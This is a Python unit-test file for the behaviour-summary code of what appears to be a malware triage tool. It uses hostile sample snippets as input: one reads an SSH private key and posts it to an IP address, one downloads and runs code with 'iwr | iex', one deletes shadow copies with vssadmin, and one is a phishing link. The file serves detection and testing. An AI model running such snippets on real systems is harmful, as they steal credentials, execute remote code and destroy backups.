"""What is told about a behaviour: what, from where and to where, and nothing where nothing is known."""

from tests.unit.triage.behaviours.scripts import listed, seen
from vedette.core.nouns import Lines
from vedette.triage.behaviours import judge
from vedette.triage.behaviours.abouts import overlap, sentence, told
from vedette.triage.fact import Act, Fact
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample

SAMPLE = Sample(name="case.py", data=b"", kind=Kind.PYTHON)
PLACE = Lines(line=1, column=1, end_line=1, end_column=2)


def summary(text: str, language: str = "python") -> str:
    return judge(SAMPLE, seen(text, language)).summary


def test_a_theft_says_which_secret_goes_where() -> None:
    text = "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    found = summary(f"{text}requests.post('http://198.51.100.7/x', data=k)\n")
    assert found.startswith("Sends secrets away: ~/.ssh/id_rsa (")
    assert "to http://198.51.100.7/x" in found


def test_an_address_is_led_to_by_a_word_and_cut_out_of_a_command() -> None:
    one = listed("RUNS_CODE < DOWNLOADS iwr http://x.invalid/a|iex", 0)
    assert told([*one.inputs, one]) == "from http://x.invalid/a"
    assert sentence("Runs what it downloads", "from http://x.invalid/a") == (
        "Runs what it downloads, from http://x.invalid/a."
    )


def test_nothing_is_said_where_nothing_is_known() -> None:
    assert not told([listed("SENDS", 0), listed("RUNS_COMMAND …", 0)])
    assert sentence("Hides itself", "") == sentence("Hides itself", "hides itself") == "Hides itself."


def test_what_is_run_in_the_end_says_so() -> None:
    one = listed("RUNS_COMMAND setup.exe < DOWNLOADS http://x.invalid/s.gz", 0)
    assert told([*one.inputs, one]) == "from http://x.invalid/s.gz, running setup.exe"


def test_a_target_no_reader_understands_gives_way_to_words() -> None:
    one = Fact(act=Act.CLEARS_TRACES, place=PLACE, quote="x", target="-c", says="forgets what was typed")
    assert told([one]) == "forgets what was typed"


def test_the_same_command_is_told_once_and_others_each() -> None:
    once = summary("DESTROYS_RECOVERY delete shadows\nRUNS_COMMAND vssadmin delete shadows\n", "facts")
    assert once == "Removes backups and restore points: delete shadows."
    both = summary("DESTROYS_RECOVERY backups\nRUNS_COMMAND vssadmin delete shadows\n", "facts")
    assert both.count("vssadmin delete shadows") == 1
    assert not overlap("", "a")
    assert overlap("to a.invalid", "curl a.invalid")


def test_what_is_carried_or_pretended_is_told_in_words() -> None:
    carried = Fact(act=Act.EMBEDS, place=PLACE, quote="x", target="a.bin", says="carries VBA macros")
    assert told([carried]) == "VBA macros"
    named = Fact(
        act=Act.DIFFERS, place=PLACE, quote="x", says="a.pdf.js: has a second ending, .js, after .pdf"
    )
    assert told([named]) == "a.pdf.js: has a second ending, .js, after .pdf"
    assert not told([listed("EMBEDS", 0), listed("DIFFERS", 0)])


def test_who_is_asked_for_something_learns_where_it_leads() -> None:
    form = Fact(
        act=Act.LURES, place=PLACE, quote="x", target="https://x.invalid/p", says="asks for a password"
    )
    assert told([form]) == "asks for a password (https://x.invalid/p)"
    assert told([listed("LURES http://x.invalid/", 0)]) == "http://x.invalid/"


def test_what_was_cut_short_ends_as_it_was_cut() -> None:
    assert sentence("Runs a command", "a…") == "Runs a command: a…"
